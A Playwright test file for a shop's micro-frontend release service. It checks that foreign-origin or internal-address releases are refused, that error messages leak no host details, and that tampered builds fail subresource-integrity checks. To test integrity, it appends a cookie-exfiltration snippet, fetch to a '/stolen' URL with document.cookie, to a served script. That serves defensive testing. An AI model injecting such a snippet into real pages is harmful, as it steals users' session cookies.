// The release surface under attack and fault (issue 44, docs/step-release.md "The release record", "A step's origins"
// and "What buyers load"): a record file moved away or a Redis emptied stops nothing; a build from another origin, a
// manifest naming internal addresses and a file changed after its release are refused, and an internal listener on
// 127.0.0.99 sees no request from the shop, the release service or a buyer's browser.
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test, type Browser } from '@playwright/test';
import { startReplicas, type Replicas } from '../support/deployment';
import { freePort } from '../support/ports';
import { redisCommand } from '../support/redis';
import { refusedRegistryEdits } from '../support/registryRefusals';
import {
  ROOT,
  buildEntry,
  defaultRegistry,
  remoteUrls,
  serveRemote,
  shopUrl,
  startShell,
  type Registry,
  type Running,
} from '../support/shop';

test.describe.configure({ mode: 'serial' });

const running: Running[] = [];
/** What the attacker's internal address (127.0.0.99, as in the report) was asked for: nothing, ever. */
const internalRequests: string[] = [];
let internal: Server;
let internalUrl: string;
const credentials: Record<string, string> = {};
/** The run's payment build: its version folder, and a copy of its dist/ served from a second origin. */
const paymentVersion = () => path.basename(new URL(remoteUrls().payment as string).pathname);
let secondOrigin: Running;

const json = (body: unknown) => ({
  method: 'POST',
  headers: { authorization: `Bearer ${credentials.payments}`, 'content-type': 'application/json' },
  body: JSON.stringify(body),
});

/** A copy of the run's payment build folder, `change`d, served as its own origin; with its files' compressed copies gone. */
async function servedPaymentCopy(change: (folder: string) => void = () => undefined) {
  const store = mkdtempSync(path.join(tmpdir(), 'greencard-store-'));
  const folder = path.join(store, paymentVersion());
  cpSync(path.join(ROOT, 'mf-payment', 'dist', paymentVersion()), folder, { recursive: true });
  for (const file of readdirSync(folder)) if (/\.(br|gz)$/.test(file)) rmSync(path.join(folder, file));
  change(folder);
  const server = await serveRemote(store);
  running.push(server);
  return { server, folder, manifest: `${server.url}/${paymentVersion()}/mf-manifest.json` };
}

/** A build's mf-manifest.json, as far as these edits go. */
interface ManifestFile {
  metaData: { remoteEntry: { path: string }; greencard: { firstView?: string } };
}

const editJson = (file: string, edit: (value: ManifestFile) => void) => {
  const value = JSON.parse(readFileSync(file, 'utf8')) as ManifestFile;
  edit(value);
  writeFileSync(file, JSON.stringify(value));
};

/** A manifest of the payment build that names internal addresses for its container script and first views. */
const naming127099 = (folder: string) =>
  editJson(path.join(folder, 'mf-manifest.json'), (manifest) => {
    manifest.metaData.remoteEntry.path = internalUrl;
    manifest.metaData.greencard.firstView = `${internalUrl}/first-view.json`;
  });

test.beforeAll(async () => {
  test.setTimeout(120_000);
  internal = createServer((request, response) => {
    internalRequests.push(request.url ?? '');
    response.end('{}');
  });
  const port = await freePort();
  await new Promise<void>((resolve) => internal.listen(port, '127.0.0.99', resolve));
  internalUrl = `http://127.0.0.99:${port}`;
  const teamsFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-teams-')), 'teams.json');
  const issued = spawnSync(
    process.execPath,
    [
      path.join(ROOT, 'scripts', 'releaseTeams.mjs'),
      'issue',
      'payments',
      '--steps',
      'payment',
      '--teams-file',
      teamsFile,
    ],
    { encoding: 'utf8' },
  );
  expect(issued.status, issued.stderr).toBe(0);
  credentials.payments = issued.stdout.trim().split('\n').at(-1) as string;
  secondOrigin = (await servedPaymentCopy()).server;
  teamsFileOf = teamsFile;
});

let teamsFileOf: string;

test.afterAll(async () => {
  await Promise.all(running.map((server) => server.stop()));
  await new Promise((resolve) => internal?.close(resolve));
  expect(internalRequests).toEqual([]);
});

test('the record file moved away: pages, calls and readiness answer as before, and the loss is counted until it is back', async () => {
  const registryFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-record-')), 'registry.json');
  const metricsPort = await freePort();
  const shell = await startShell(defaultRegistry(), registryFile, { METRICS_PORT: String(metricsPort) });
  running.push(shell);
  const answers = async () =>
    Promise.all(
      ['/', '/en/portmoneCallBack', '/api/serverTime', '/readyz'].map(
        async (at) => (await fetch(`${shell.url}${at}`)).status,
      ),
    );
  expect(await answers()).toEqual([200, 200, 200, 200]);
  renameSync(registryFile, `${registryFile}.away`);
  // The report: every page and call answered 500 {"message":"Internal error"}, /readyz 503 "no release record".
  await expect
    .poll(async () => (await (await fetch(`${shell.url}/readyz`)).json()).record, { timeout: 5000 })
    .toMatch(/^unreadable since /);
  for (let i = 0; i < 5; i++) expect(await answers()).toEqual([200, 200, 200, 200]);
  const metrics = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
  expect(metrics).toMatch(/^shop_release_record_readable 0$/m);
  expect(metrics).toMatch(/^shop_release_record_losses_total 1$/m);
  renameSync(`${registryFile}.away`, registryFile);
  await expect
    .poll(async () => (await (await fetch(`${shell.url}/readyz`)).json()).record, { timeout: 5000 })
    .toBe('readable');
});

test.describe('replicas sharing Redis', () => {
  let deployment: Replicas;
  /** A payment build on an origin the operator allows, whose manifest names internal addresses. */
  let naming: Awaited<ReturnType<typeof servedPaymentCopy>>;

  test.beforeAll(async () => {
    test.setTimeout(120_000);
    naming = await servedPaymentCopy(naming127099);
    const stepOrigins = [
      ...Object.entries(remoteUrls()).map(([step, url]) => `${step}=${new URL(url).origin}`),
      `payment=${secondOrigin.url}`,
      `payment=${naming.server.url}`,
    ];
    deployment = await startReplicas({
      redis: true,
      teamsFile: teamsFileOf,
      env: { STEP_ORIGINS: stepOrigins.join(',') },
    });
  });

  test.afterAll(async () => deployment?.stop());

  const service = (at: string, init?: RequestInit) =>
    fetch(
      `${deployment.releaseUrls[0]}${at}`,
      init ?? { headers: { authorization: `Bearer ${credentials.payments}` } },
    );
  const paymentOf = async (replica: Running) =>
    ((await (await fetch(`${replica.url}/registry.json`)).json()) as Registry).payment?.manifest;
  const secondManifest = () => `${secondOrigin.url}/${paymentVersion()}/mf-manifest.json`;

  test('Redis emptied and a replica restarted: the released build stays, the history too, and its loss is said', async () => {
    const released = await service(
      '/steps/payment/release',
      json({ version: paymentVersion(), origin: secondOrigin.url }),
    );
    expect(released.status, await released.clone().text()).toBe(200);
    for (const replica of deployment.replicas)
      await expect.poll(() => paymentOf(replica), { timeout: 3000 }).toBe(secondManifest());
    // The report: FLUSHALL, then one replica's restart seeded the record again from its file, and both replicas ran
    // the original registry with the history gone.
    expect(redisCommand(deployment.redis?.url as string, 'FLUSHALL')).toBe('OK');
    await deployment.restart(0);
    for (const replica of deployment.replicas) {
      await expect.poll(async () => (await fetch(`${replica.url}/readyz`)).status, { timeout: 10_000 }).toBe(200);
      expect(await paymentOf(replica)).toBe(secondManifest());
      expect((await fetch(`${replica.url}/`)).status).toBe(200);
      expect((await fetch(`${replica.url}/api/serverTime`)).status).toBe(200);
    }
    const { history } = (await (await service('/history')).json()) as { history: { action: string; by: string }[] };
    expect(history.map(({ action, by }) => `${action} by ${by}`)).toEqual([
      'seed by operator',
      'release by payments',
      'restore by shop server',
    ]);
  });

  test('releases and rollbacks wait while Redis is down, with a reason, and are taken once the record is back', async () => {
    await deployment.redis?.stop();
    const refused = await service('/steps/payment/rollback', json({}));
    expect(refused.status).toBe(422);
    expect((await refused.json()).message).toMatch(
      /^The release record cannot be read now \(its store does not answer\)/,
    );
    // Pages and readiness go on meanwhile.
    expect((await fetch(`${deployment.edgeUrl}/`)).status).toBe(200);
    // Back empty (this Redis keeps no data): a replica that knew the record writes it back.
    await deployment.redis?.start();
    await expect
      .poll(async () => (await service('/steps/payment/rollback', json({}))).status, { timeout: 15_000 })
      .toBe(200);
    for (const replica of deployment.replicas)
      await expect.poll(() => paymentOf(replica), { timeout: 3000 }).not.toBe(secondManifest());
  });

  test('a damaged line of the history is skipped and counted: GET /history answers', async () => {
    redisCommand(deployment.redis?.url as string, 'RPUSH', 'gc:release:history', 'junk /srv/x');
    const answer = await service('/history');
    expect(answer.status).toBe(200);
    const body = await answer.text();
    expect(JSON.parse(body)).toMatchObject({ damaged: 1 });
    expect(body).not.toContain('junk');
  });

  test('a release from another origin, or of a manifest naming internal addresses, is refused without a request to them', async () => {
    const foreign = await service('/steps/payment/release', json({ version: paymentVersion(), origin: internalUrl }));
    expect(foreign.status).toBe(422);
    expect((await foreign.json()).message).toContain(
      `cannot go live: it is served from ${internalUrl}, and the shop serves payment's builds only from`,
    );
    // Another step's origin is another origin too.
    const points = await service(
      '/steps/payment/release',
      json({ version: paymentVersion(), origin: new URL(remoteUrls().points as string).origin }),
    );
    expect(points.status).toBe(422);
    // From its own origin, a manifest whose container script and first views are on an internal address.
    const internalFiles = await service(
      '/steps/payment/release',
      json({ version: paymentVersion(), origin: naming.server.url }),
    );
    expect(internalFiles.status).toBe(422);
    const { message } = (await internalFiles.json()) as { message: string };
    expect(message).toContain('its container script is not remoteEntry.js beside its manifest');
    expect(message).toContain('its first views are not a file of its own folder');
    // Refusal texts say what is wrong with the build, never how a host answered (the report: "answered HTTP 404",
    // "is not JSON", "fetch failed" told a team which internal hosts and ports answer).
    expect(message).not.toMatch(/HTTP \d|fetch failed|ECONNREFUSED/);
    expect(internalRequests).toEqual([]);
  });
});

test('the command line refuses a release from another origin before it fetches anything', async () => {
  const registryFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-cli-')), 'registry.json');
  writeFileSync(registryFile, JSON.stringify(defaultRegistry()));
  const run = spawnSync(
    process.execPath,
    [
      path.join(ROOT, 'scripts', 'release.mjs'),
      'payment',
      paymentVersion(),
      '--origin',
      internalUrl,
      '--registry',
      registryFile,
    ],
    { cwd: ROOT, encoding: 'utf8', env: { ...process.env, STEP_ORIGINS: `payment=${secondOrigin.url}` } },
  );
  expect(run.status).toBe(1);
  expect(run.stderr).toContain(
    `it is served from ${internalUrl}, and the shop serves payment's builds only from ${secondOrigin.url}`,
  );
  expect(internalRequests).toEqual([]);
});

test.describe('a registry written by hand', () => {
  let shell: Running;
  let registryFile: string;
  let metricsUrl: string;

  test.beforeAll(async () => {
    registryFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-hand-')), 'registry.json');
    const metricsPort = await freePort();
    metricsUrl = `http://127.0.0.1:${metricsPort}/metrics`;
    shell = await startShell(defaultRegistry(), registryFile, { METRICS_PORT: String(metricsPort) });
    running.push(shell);
    // Its first registry read and judged good: the one it keeps through the edits below.
    await expect.poll(async () => (await fetch(`${shell.url}/registry.json`)).status, { timeout: 10_000 }).toBe(200);
  });

  const refused = (reason: string) => refusedRegistryEdits(shell.url, metricsUrl, reason);
  const written = (payment: Record<string, unknown>) => {
    const registry = defaultRegistry();
    writeFileSync(registryFile, JSON.stringify({ ...registry, payment: { ...registry.payment, ...payment } }));
  };

  test('names an internal address, //host, or a build whose manifest names one: each refused, none fetched', async () => {
    const good = readFileSync(registryFile);
    written({ manifest: `${internalUrl}/${paymentVersion()}/mf-manifest.json` });
    await expect.poll(() => refused('origin')).toBe(1);
    // The report: a //host manifest passed the schema, was skipped by the judge, and went live unjudged.
    written({ manifest: `//127.0.0.99:${new URL(internalUrl).port}/${paymentVersion()}/mf-manifest.json` });
    await expect.poll(() => refused('malformed')).toBe(1);
    const naming = await servedPaymentCopy(naming127099);
    written({ manifest: naming.manifest });
    await expect.poll(() => refused('build')).toBe(1);
    expect(((await (await fetch(`${shell.url}/registry.json`)).json()) as Registry).payment?.manifest).toBe(
      defaultRegistry().payment?.manifest,
    );
    writeFileSync(registryFile, good);
    expect(internalRequests).toEqual([]);
  });
});

test.describe('what buyers load is what was judged', () => {
  /** A browser's look at the payment page: whether the step mounted, and what the console said of integrity. */
  async function paymentPage(browser: Browser, url: string) {
    const context = await browser.newContext({ baseURL: url, locale: 'en-GB' });
    const page = await context.newPage();
    const refusedByIntegrity: string[] = [];
    page.on('console', (message) => {
      if (/integrity/i.test(message.text())) refusedByIntegrity.push(message.text());
    });
    await page.route('https://www.googletagmanager.com/**', (route) => route.abort());
    await page.goto('/en/portmoneCallBack');
    const mounted = await page
      .waitForFunction(() => document.getElementById('step-outlet')?.dataset.mountedStep === 'payment', undefined, {
        timeout: 15_000,
      })
      .then(
        () => true,
        () => false,
      );
    await context.close();
    return { mounted, refusedByIntegrity };
  }

  test('a container script or a chunk changed after the release is refused by the browser, and by a server that reads the record anew', async ({
    browser,
  }) => {
    test.setTimeout(120_000);
    const copy = await servedPaymentCopy();
    const registryFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-sri-')), 'registry.json');
    const registry = { ...defaultRegistry(), payment: buildEntry(copy.manifest, 'payment', copy.folder) };
    const shell = await startShell(registry, registryFile);
    running.push(shell);
    expect(await paymentPage(browser, shell.url)).toEqual({ mounted: true, refusedByIntegrity: [] });

    const stolen = `;fetch(${JSON.stringify(`${internalUrl}/stolen`)}+"?"+document.cookie);`;
    const entryFile = path.join(copy.folder, 'remoteEntry.js');
    const entry = readFileSync(entryFile);
    writeFileSync(entryFile, `${entry}${stolen}`);
    const alteredEntry = await paymentPage(browser, shell.url);
    expect(alteredEntry.mounted).toBe(false);
    expect(alteredEntry.refusedByIntegrity.length).toBeGreaterThan(0);
    writeFileSync(entryFile, entry);

    const chunk = readdirSync(copy.folder).find((file) => /^__federation_expose_app\..*\.js$/.test(file)) as string;
    const chunkFile = path.join(copy.folder, chunk);
    writeFileSync(chunkFile, `${readFileSync(chunkFile)}${stolen}`);
    const alteredChunk = await paymentPage(browser, shell.url);
    expect(alteredChunk.mounted).toBe(false);
    expect(alteredChunk.refusedByIntegrity.length).toBeGreaterThan(0);
    expect(internalRequests).toEqual([]);

    // A server that reads the record anew judges the file itself: the container script is not the one released.
    writeFileSync(entryFile, `${entry}${stolen}`);
    const fresh = await startShell(registry, path.join(path.dirname(registryFile), 'fresh.json'));
    running.push(fresh);
    const ready = await fetch(`${fresh.url}/readyz`);
    expect(ready.status).toBe(503);
    expect(await ready.json()).toMatchObject({ registry: 'refused' });
    expect(internalRequests).toEqual([]);
  });
});

test('the served manifests and stats name no path of the build machine', async () => {
  const served = [
    `${shopUrl()}/mf-manifest.json`,
    `${shopUrl()}/mf-stats.json`,
    ...Object.values(remoteUrls()).flatMap((url) => [`${url}/mf-manifest.json`, `${url}/mf-stats.json`]),
  ];
  for (const url of served) {
    const answer = await fetch(url);
    expect(answer.status, url).toBe(200);
    expect(await answer.text(), url).not.toContain(ROOT);
  }
});
